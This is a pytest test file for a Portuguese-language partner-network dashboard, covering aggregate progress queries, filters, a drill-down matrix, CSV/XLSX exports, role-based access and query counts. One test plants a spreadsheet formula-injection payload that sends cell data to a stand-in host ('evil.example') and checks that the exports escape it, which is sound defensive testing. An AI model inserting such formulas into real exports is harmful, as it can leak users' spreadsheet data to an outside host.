"""Painel da Rede: aggregates in SQL, filters, the matrix, exports and a constant query count."""

import csv
import io
from datetime import date

import pytest
from openpyxl import load_workbook

from portal.agreements import plans
from portal.agreements.importer import parse_plan, read_seed_plan
from portal.deliverables.models import Deliverable
from portal.extensions import db
from portal.network import panel
from tests import clock, factories


@pytest.fixture
def network(users):
    plan = parse_plan(read_seed_plan())
    mg_act, _ = plans.import_plan(plan, start=date(2025, 10, 1), years=5)
    plans.import_plan(
        plan,
        start=date(2025, 10, 1),
        years=5,
        number="161/2025",
        partner=users["other_manager"].institution,
    )
    mg = users["partner_manager"].institution_id
    due = db.session.scalars(
        db.select(Deliverable)
        .where(Deliverable.institution_id == mg, Deliverable.due_on <= clock.today())
        .order_by(Deliverable.due_on)
    ).all()
    due[0].status, due[1].status, due[2].status = "approved", "approved", "submitted"
    db.session.commit()
    return {"mg": mg, "es": users["other_manager"].institution_id, "act": mg_act}


def _row(rows, institution_id):
    return next(r for r in rows if r.id == institution_id)


def test_progress_by_partner_is_computed_in_sql(network):
    rows = db.session.execute(panel.progress_query(panel.PanelFilters(), clock.today())).all()
    mg, es = _row(rows, network["mg"]), _row(rows, network["es"])
    expected_due = db.session.scalar(
        db.select(db.func.count(Deliverable.id)).where(
            Deliverable.institution_id == network["mg"], Deliverable.due_on <= clock.today()
        )
    )
    assert mg.due == expected_due and mg.done == 2 and mg.waiting == 1
    assert mg.overdue == expected_due - 3
    assert round(mg.percent) == round(200 / expected_due)
    assert es.done == 0 and es.due == mg.due


def test_totals(network):
    totals = panel.totals(panel.PanelFilters(), clock.today())
    assert totals.institutions == 2 and totals.active_agreements == 2
    assert totals.approved == 2 and totals.waiting == 1


def test_panel_page_filters_and_sorts(client, users, login, network):
    login(users["seges_reviewer"])
    page = client.get("/painel").get_data(as_text=True)
    assert "Painel da Rede" in page and "Governo de Minas Gerais" in page
    assert "Governo do Espírito Santo" in page
    fragment = client.htmx("/painel?uf=ES").get_data(as_text=True)
    assert "<html" not in fragment and "Espírito Santo" in fragment
    assert "Governo de Minas Gerais" not in fragment
    ordered = client.htmx("/painel?ordem=progresso&direcao=desc").get_data(as_text=True)
    assert ordered.index("Minas Gerais") < ordered.index("Espírito Santo")
    assert "Nenhum parceiro" in client.htmx("/painel?camada=2").get_data(as_text=True)


def test_matrix_drills_down_to_the_deliverable(client, users, login, network):
    login(users["seges_admin"])
    body = client.get("/painel?visao=matriz").get_data(as_text=True)
    assert "Parceiro × meta" in body and "Atrasada" in body and "Aprovada" in body
    assert "/analise/" in body


def test_exports_follow_the_current_filters(client, users, login, network):
    login(users["seges_admin"])
    response = client.get("/painel.csv?uf=MG")
    text = response.get_data(as_text=True).lstrip("\ufeff")
    rows = list(csv.reader(io.StringIO(text), delimiter=";"))
    assert rows[0][0] == "Parceiro" and len(rows) == 2 and rows[1][2] == "MG"
    assert response.headers["Content-Disposition"].startswith("attachment")
    response = client.get("/painel.xlsx")
    sheet = load_workbook(io.BytesIO(response.data)).active
    assert sheet.max_row == 3 and sheet.cell(1, 9).value == "Progresso (%)"


def test_exports_keep_names_that_look_like_formulas_as_text(client, users, login, network):
    es = users["other_manager"].institution
    es.name = '=HYPERLINK("https://evil.example/?"&A1,"Abrir")'
    db.session.commit()
    login(users["seges_admin"])
    text = client.get("/painel.csv").get_data(as_text=True)
    assert "'=HYPERLINK" in text
    sheet = load_workbook(io.BytesIO(client.get("/painel.xlsx").data)).active
    cells = [cell for row in sheet.iter_rows() for cell in row
             if str(cell.value).startswith("=HYPERLINK")]
    assert cells and all(cell.data_type == "s" for cell in cells)


def test_partners_cannot_see_the_panel(client, users, login, network):
    for role in ("partner_manager", "partner_member"):
        login(users[role])
        for url in ("/painel", "/painel.csv", "/painel.xlsx"):
            assert client.get(url).status_code == 403
        client.post("/logout")


def test_query_count_does_not_grow_with_the_network(client, users, login, network):
    login(users["seges_reviewer"])
    urls = ["/painel", "/painel?visao=matriz", "/analise"]
    small = [factories.queries_for(client, url) for url in urls]
    plan = parse_plan(read_seed_plan())
    for i in range(8):
        partner = factories.institution(
            name=f"Município {i}", sphere="municipal", elo="Municípios", uf="BA"
        )
        plans.import_plan(
            plan, start=date(2025, 10, 1), years=5, number=f"{200 + i}/2025", partner=partner
        )
    large = [factories.queries_for(client, url) for url in urls]
    assert large == small


@pytest.mark.parametrize("query", ["camada=x", "eixo=y", "ano=abc", "ordem=zzz&direcao=qq"])
def test_bad_panel_filters_are_ignored_not_500(client, users, login, network, query):
    login(users["seges_admin"])
    assert client.get(f"/painel?{query}").status_code == 200
